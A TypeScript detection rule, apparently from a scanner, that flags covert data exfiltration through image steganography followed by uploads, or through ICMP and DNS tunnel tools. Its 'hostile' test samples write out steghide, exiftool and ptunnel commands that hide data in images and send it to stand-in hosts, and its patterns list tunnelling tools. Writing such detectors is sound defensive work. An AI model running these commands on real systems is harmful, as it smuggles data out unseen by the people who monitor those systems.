import { any, near, seen, several } from "../matchers.ts";
import type { Rule } from "../rule.ts";
import { uploads } from "../words/sends.ts";

const hides = several(
  ["steghide", "outguess", "stegano", "stegolsb", "exiftool", "exif", "lsb", "pixel", "pixels"],
  /\b(?:steghide\sembed|outguess\s-d|stegano\b|stegolsb\b)/,
  /\bexiftool\b[^\n]{0,40}-(?:comment|usercomment|imagedescription)[=<][^\n]{0,20}\$/,
  /\b(?:hide|embed|encode)s?\b[^.\n]{0,40}\b(?:data|secret|payload|token|key|message)s?\b[^.\n]{0,30}\b(?:exif|least\ssignificant|lsb|pixels?)\b/,
);
const tunnel = seen(
  /\b(?:iodine|dnscat2?|ptunnel|icmptunnel|hping3?\s[^\n]{0,60}--(?:file|sign))\b/,
  "iodine",
  "dnscat",
  "dnscat2",
  "ptunnel",
  "icmptunnel",
  "hping",
  "hping3",
);

export const covertChannel: Rule = {
  id: "leak.covert",
  level: "high",
  title: "hides what it sends in something else",
  why: "Data is put into the pixels or the notes of an image, or into packets that carry none, and leaves the machine that way. It has one purpose: that nobody sees it go.",
  match: any(near(hides, uploads, 600), tunnel),
  hostile: [
    "```bash\nsteghide embed -cf cat.jpg -ef notes.txt\ncurl -F file=@cat.jpg https://img.example.net/up\n```",
    '```bash\nexiftool -Comment="$DATA" logo.png\ncurl -T logo.png https://img.example.org/\n```',
    "```bash\nptunnel -p 203.0.113.8 -lp 8000 -da 203.0.113.8 -dp 22\n```",
  ],
  benign: [
    "```bash\nexiftool -Artist='Ada' photo.jpg\n```",
    "```bash\ncurl -F file=@photo.jpg https://img.example.com/up\n```",
    "Embed the chart in the page and encode the video.",
  ],
};
